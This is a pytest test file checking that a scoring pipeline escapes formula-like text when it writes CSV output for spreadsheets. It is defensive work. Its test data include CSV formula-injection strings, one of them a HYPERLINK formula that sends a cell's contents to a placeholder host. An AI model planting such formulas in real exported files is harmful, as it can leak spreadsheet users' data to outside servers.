"""A spreadsheet that opens scores in CSV runs nothing that stood in the input, if the job asks for that."""

from collections.abc import Callable
import csv
from pathlib import Path
import re

import numpy as np
import pyarrow as pa
import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pytest

from storage.layout import read_manifest
from tests.support.builders import FEATURES, tiny_package
from transforms.formats.csv_output import escape_table

TEXTS = [
    "=1+1",
    '=HYPERLINK("http://x/?"&A1)',
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "'=1",
    "''=1",
    "\uff1d1",
    "'quoted",
    "plain",
    "a=b",
    " =1",
    "",
    None,
]


def unescaped(text: str) -> str:
    """What the module says gives back what was scored."""
    return text[1:] if re.match("^'+[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20]", text) else text


def shard(folder: Path, **columns: object) -> str:
    x = np.random.default_rng(0).standard_normal((3, len(TEXTS)), dtype=np.float32)
    table = pa.table(
        {"id": pa.array(range(len(TEXTS))), **dict(zip(FEATURES, x, strict=True)), **columns}
    )
    folder.mkdir(exist_ok=True)
    pq.write_table(table, folder / "s.parquet")
    return str(folder)


def rows_of(output: Path) -> list[list[str]]:
    run, manifest = read_manifest(str(output))
    with open(f"{run.published}/{manifest['files'][0]['path']}", newline="") as file:
        return list(csv.reader(file))


@pytest.fixture
def scored(tmp_path: Path, run_score: Callable[..., int]) -> Callable[..., int]:
    package = tiny_package(tmp_path / "model")

    def run(*flags: str, **columns: object) -> int:
        carried = "[" + ", ".join(f'"{name}"' for name in columns) + "]"
        sources = ["--model", package, "--input", shard(tmp_path / "in", **columns)]
        return run_score(
            *sources, "--set", f"source.passthrough={carried}", "--set", "sink.format=csv", *flags
        )

    return run


ASKED = ("--set", "sink.escape_formulas=true")


def test_texts_that_look_like_formulas_are_escaped_and_come_back(
    scored: Callable[..., int], tmp_path: Path
) -> None:
    numbers = [-1] * len(TEXTS)
    columns = {
        "=name": pa.array(TEXTS),
        "large": pa.array(TEXTS, pa.large_string()),
        "few": pa.array(TEXTS).dictionary_encode(),
        "n": pa.array(numbers),
        "d": pa.array(numbers, pa.decimal128(5, 2)),
    }
    assert scored(*ASKED, **columns) == 0
    header, *rows = rows_of(tmp_path / "scores")
    assert header == ["id", "'=name", "large", "few", "n", "d", "probability", "label"]
    for row, text in zip(rows, TEXTS, strict=True):
        for field in row[1:4]:
            assert not re.match("[=+\\-@\t\r\n\uff1d]", field)
            assert unescaped(field) == (text or "")
        assert row[4:6] == ["-1", "-1.00"]


def test_nothing_is_escaped_unless_the_job_says_so(
    scored: Callable[..., int], tmp_path: Path
) -> None:
    assert scored(s=pa.array(TEXTS)) == 0
    assert [row[1] for row in rows_of(tmp_path / "scores")[1:]] == [t or "" for t in TEXTS]


def test_it_is_refused_where_it_would_do_nothing(
    scored: Callable[..., int], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert scored(*ASKED, "--set", "sink.format=parquet", s=pa.array(TEXTS)) == 2
    assert "sink.escape_formulas: is for spreadsheets, which open CSV" in capsys.readouterr().err
    assert not (tmp_path / "scores").exists()


@pytest.mark.parametrize(
    "dtype",
    [pa.string(), pa.large_string(), pa.string_view(), pa.dictionary(pa.int32(), pa.string())],
)
def test_every_kind_of_text_is_escaped_without_a_loop_over_rows(dtype: pa.DataType) -> None:
    table = pa.table(
        {"s": pa.chunked_array([pa.array(TEXTS[:5]).cast(dtype), pa.array(TEXTS[5:]).cast(dtype)])}
    )
    assert [t if t is None else unescaped(t) for t in escape_table(table)["s"].to_pylist()] == TEXTS
    assert (
        sum(a != b for a, b in zip(escape_table(table)["s"].to_pylist(), TEXTS, strict=True)) == 11
    )


def test_an_escaped_file_has_as_many_rows_as_its_manifest_says(
    scored: Callable[..., int], tmp_path: Path
) -> None:
    assert scored(*ASKED, s=pa.array(TEXTS)) == 0
    run, manifest = read_manifest(str(tmp_path / "scores"))
    options = pacsv.ParseOptions(newlines_in_values=True)
    table = pacsv.read_csv(f"{run.published}/{manifest['files'][0]['path']}", parse_options=options)
    assert table.num_rows == manifest["rows"]["scored"] == len(TEXTS)
